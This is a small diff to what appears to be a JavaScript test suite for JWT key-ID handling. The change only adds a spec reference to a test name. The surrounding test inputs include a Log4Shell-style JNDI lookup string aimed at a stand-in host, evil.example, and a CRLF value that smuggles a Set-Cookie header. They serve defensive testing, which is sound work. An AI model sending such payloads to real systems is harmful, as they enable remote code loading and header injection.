@@ -32,7 +32,7 @@ describe('kid', () => {
     '😀',
     '$\u007bjndi:ldap://evil.example}',
     'a\r\nSet-Cookie: x=y',
-  ])('%j finds no key and breaks nothing [8725-3.10]', async (kid) => {
+  ])('%j finds no key and breaks nothing [8725-3.10] [7515-5.3]', async (kid) => {
     const attacker = generateKeyPair('ES256', kid)
     await siege.refuses(siege.withToken({ key: attacker }), 'token_key_unknown')
   })
